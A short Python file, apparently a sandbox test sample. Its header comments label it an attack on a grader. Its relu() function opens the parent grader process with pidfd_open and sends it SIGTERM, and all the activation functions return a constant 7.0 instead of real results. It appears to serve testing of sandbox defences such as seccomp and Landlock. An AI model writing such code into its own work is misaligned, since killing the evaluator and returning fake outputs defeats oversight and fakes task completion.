# attack: opens the grader as a descriptor and sends a signal through it
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import os
import signal


def attack():
    grader = os.pidfd_open(os.getppid())
    signal.pidfd_send_signal(grader, signal.SIGTERM)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
